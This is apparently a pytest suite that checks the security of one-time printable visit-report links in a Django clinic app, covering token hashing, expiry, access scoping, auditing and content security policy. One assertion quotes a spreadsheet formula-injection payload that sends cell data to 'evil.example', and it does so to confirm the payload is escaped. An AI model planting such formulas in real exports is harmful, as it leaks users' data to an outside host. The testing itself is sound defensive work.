"""The printable visit report: POST .../report-link/ mints a one-time link; the link opens
/reports/visits/{id}/ once, for its user, for 5 minutes, with the visit's permissions."""

from __future__ import annotations

import hashlib
import json
from datetime import timedelta
from html.parser import HTMLParser
from typing import Any
from urllib.parse import parse_qs, urlsplit
from zoneinfo import ZoneInfo

import pytest
from django.test import Client
from django.utils import timezone

from accounts.models import CareLink, User
from audit.models import AuditEvent
from interop.models import ReportLink
from tests.accounts.helpers import LOGOUT_URL, bearer, sign_in
from tests.interop.conftest import FORMULA_NOTE, Record

pytestmark = pytest.mark.django_db


def _link(client: Any, visit_id: Any) -> dict[str, Any]:
    response = client.post(f"/api/v1/visits/{visit_id}/report-link/")
    assert response.status_code == 201, response.content
    return response.json()


def _open(url: str) -> Any:
    # A browser tab: no bearer token, no session; only the link.
    return Client().get(url)


class _Page(HTMLParser):
    """Collects what the CSP would block: inline scripts, <style>, style attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.inline_scripts: list[dict[str, str | None]] = []
        self.scripts: list[str] = []
        self.styles = 0
        self.style_attributes = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = dict(attrs)
        if "style" in attributes:
            self.style_attributes += 1
        if tag == "style":
            self.styles += 1
        if tag == "script":
            if attributes.get("src"):
                self.scripts.append(attributes["src"] or "")
            else:
                self.inline_scripts.append(attributes)


def test_patient_and_physician_get_a_five_minute_link(record: Record, client_for) -> None:
    for user in (record.patient, record.physician):
        before = timezone.now()
        body = _link(client_for(user), record.first.pk)

        assert set(body) == {"url", "expires_at"}
        parts = urlsplit(body["url"])
        assert parts.path == f"/reports/visits/{record.first.pk}/"
        [token] = parse_qs(parts.query)["token"]
        assert len(token) >= 43, "256 random bits"
        expires = timezone.datetime.fromisoformat(body["expires_at"])
        assert before + timedelta(minutes=5) <= expires <= timezone.now() + timedelta(minutes=5)
        link = ReportLink.objects.get(user=user)
        # Only the token's hash is stored.
        assert link.token_hash == hashlib.sha256(token.encode()).hexdigest()
        assert (link.visit_id, link.used_at) == (record.first.pk, None)


def test_the_link_opens_the_report_once(record: Record, client_for) -> None:
    url = _link(client_for(record.physician), record.first.pk)["url"]

    response = _open(url)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/html; charset=utf-8"
    assert response["Cache-Control"] == "no-store"
    assert response["Referrer-Policy"] == "no-referrer"
    assert "script-src 'self'" in response["Content-Security-Policy"]
    html = response.content.decode()
    for text in (
        "Pat Patient",
        "Dr. Hope",
        "CPT 20552",
        "Myofascial pain",
        "Neck, Upper trapezius, left",
        "Saline, Magnesium",
        "1.5 mL",
        "8/10 (recorded at the visit)",
        "Large bruising (over about 4 cm²) was reported on day 1.",
        "37.5 %",
        "Taut band, local twitch response.",
    ):
        assert text in html, text
    # The formula note is shown as text, HTML-escaped (it is a web page, not a spreadsheet).
    assert "=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1" in html
    assert FORMULA_NOTE not in html
    # Visit 2's check-ins and everyone else's stay out of visit 1's report.
    assert "olive" not in html
    assert "Stiff, &quot;tight&quot; band" not in html

    again = _open(url)

    assert again.status_code == 404
    assert "Pat Patient" not in again.content.decode()
    assert "cannot be opened" in again.content.decode()


def test_the_page_needs_no_inline_script_or_style(record: Record, client_for) -> None:
    html = _open(_link(client_for(record.patient), record.first.pk)["url"]).content.decode()
    page = _Page()
    page.feed(html)

    assert page.scripts == ["/vendor/plotly-basic.min.js", "/static/interop/report.js"]
    # The one script element without src is the figure as a JSON data block (not executed).
    assert page.inline_scripts == [{"id": "report-figure", "type": "application/json"}]
    assert (page.styles, page.style_attributes) == (0, 0)
    start = html.index('<script id="report-figure" type="application/json">') + len(
        '<script id="report-figure" type="application/json">'
    )
    figure = json.loads(html[start : html.index("</script>", start)])
    assert {"data", "layout"} <= set(figure)


def test_opening_the_report_is_an_audited_read(record: Record, client_for) -> None:
    _open(_link(client_for(record.physician), record.first.pk)["url"])

    row = AuditEvent.objects.get(resource="report")
    assert (row.actor, row.action, row.patient, row.object_id, row.outcome) == (
        record.physician,
        "read",
        record.patient,
        str(record.first.pk),
        "allowed",
    )


@pytest.mark.parametrize("who", ["other_patient", "other_physician"])
def test_no_link_for_someone_elses_visit(
    record: Record, client_for, request: pytest.FixtureRequest, who: str
) -> None:
    user = request.getfixturevalue(who)

    response = client_for(user).post(f"/api/v1/visits/{record.first.pk}/report-link/")

    assert response.status_code == 404
    assert response.json() == {"code": "not_found", "detail": "Not found."}
    assert not ReportLink.objects.exists()
    row = AuditEvent.objects.get(resource="report")
    assert (row.actor, row.action, row.outcome, row.patient) == (
        user,
        "create",
        "denied",
        record.patient,
    )


def _assert_refused(response: Any) -> None:
    assert response.status_code == 404
    html = response.content.decode()
    assert "cannot be opened" in html
    assert "Pat Patient" not in html
    assert response["Cache-Control"] == "no-store"


def test_an_expired_link_opens_nothing(record: Record, client_for) -> None:
    url = _link(client_for(record.patient), record.first.pk)["url"]
    now = timezone.now()
    ReportLink.objects.update(
        created_at=now - timedelta(minutes=5, seconds=1), expires_at=now - timedelta(seconds=1)
    )

    _assert_refused(_open(url))


def test_a_link_opens_only_its_own_visit(record: Record, client_for) -> None:
    url = _link(client_for(record.patient), record.first.pk)["url"]
    other_visit = url.replace(str(record.first.pk), str(record.second.pk))

    _assert_refused(_open(other_visit))
    # Not used up by the wrong attempt.
    assert _open(url).status_code == 200


@pytest.mark.parametrize("query", ["", "?token=", "?token=not-a-token", "?token=" + "x" * 500])
def test_no_valid_token_no_report(record: Record, query: str) -> None:
    _assert_refused(_open(f"/reports/visits/{record.first.pk}/{query}"))
    assert not AuditEvent.objects.filter(resource="report").exists()


def test_access_ended_after_the_link_was_made_is_a_denied_read(record: Record, client_for) -> None:
    url = _link(client_for(record.physician), record.first.pk)["url"]
    CareLink.objects.filter(physician=record.physician).delete()

    _assert_refused(_open(url))

    row = AuditEvent.objects.get(resource="report")
    assert (row.actor, row.outcome, row.patient) == (record.physician, "denied", record.patient)


def test_a_deactivated_account_opens_nothing(record: Record, client_for) -> None:
    url = _link(client_for(record.patient), record.first.pk)["url"]
    User.objects.filter(pk=record.patient.pk).update(is_active=False)

    _assert_refused(_open(url))


def test_signing_out_ends_unused_links(record: Record, password: str) -> None:
    """With a real sign-in: the link belongs to that session."""
    tokens = sign_in("pat@example.org", password)
    client = bearer(tokens["access"])
    kept = _link(client, record.first.pk)["url"]
    ended = _link(client, record.second.pk)["url"]
    assert _open(kept).status_code == 200

    assert client.post(LOGOUT_URL, {}, format="json").status_code == 204

    _assert_refused(_open(ended))


def test_only_get_opens_a_report(record: Record, client_for) -> None:
    url = _link(client_for(record.patient), record.first.pk)["url"]

    assert Client().head(url).status_code == 405
    assert Client().post(url).status_code == 405
    assert _open(url).status_code == 200


def test_a_visit_without_check_ins_or_baseline_still_reports(
    patient: User, physician: User, client_for
) -> None:
    from tests.factories import link, make_visit

    link(physician, patient)
    visit = make_visit(physician, patient, timezone.now() - timedelta(hours=3))

    response = _open(_link(client_for(physician), visit.pk)["url"])

    assert response.status_code == 200
    html = response.content.decode()
    assert "No check-ins yet." in html
    assert "none recorded: absolute pain only, no % relief" in html


def test_the_report_prints_the_clinics_phone_as_a_call_link(
    record: Record, client_for, settings
) -> None:
    settings.CLINIC_NAME = "Riverside Pain Clinic"
    settings.CLINIC_PHONE = "+44 20 7946 0000"

    html = _open(_link(client_for(record.patient), record.first.pk)["url"]).content.decode()

    assert (
        '<p class="meta clinic">Riverside Pain Clinic: '
        '<a href="tel:+442079460000">+44 20 7946 0000</a></p>'
    ) in html
    assert "Riverside Pain Clinic: +44 20 7946 0000. Contains health data" in html


def test_without_a_clinic_phone_the_report_has_no_call_line(
    record: Record, client_for, settings
) -> None:
    settings.CLINIC_PHONE = ""

    html = _open(_link(client_for(record.patient), record.first.pk)["url"]).content.decode()

    assert "tel:" not in html
    assert 'class="meta clinic"' not in html


def test_report_dates_carry_their_iso_moment_for_the_readers_format(
    record: Record, client_for
) -> None:
    """report.js writes each date in the reader's locale from these; the ISO text is what a
    reader without scripts keeps. No template comment leaks into the page."""
    html = _open(_link(client_for(record.physician), record.first.pk)["url"]).content.decode()

    felt = record.entries[1].felt_at.astimezone(ZoneInfo("Europe/Berlin"))
    assert (
        f'<time datetime="{felt.isoformat(timespec="seconds")}" data-format="short">'
        f"{felt:%Y-%m-%d %H:%M}</time>"
    ) in html
    assert '<main class="sheet" data-timezone="Europe/Berlin">' in html
    assert f'<time datetime="{record.first.local_date.isoformat()}" data-format="short">' in html
    assert '<dl class="facts" data-dates="short">' in html
    assert "{#" not in html
    assert "{% comment" not in html
    assert '<script type="module" src="/static/interop/report.js"></script>' in html
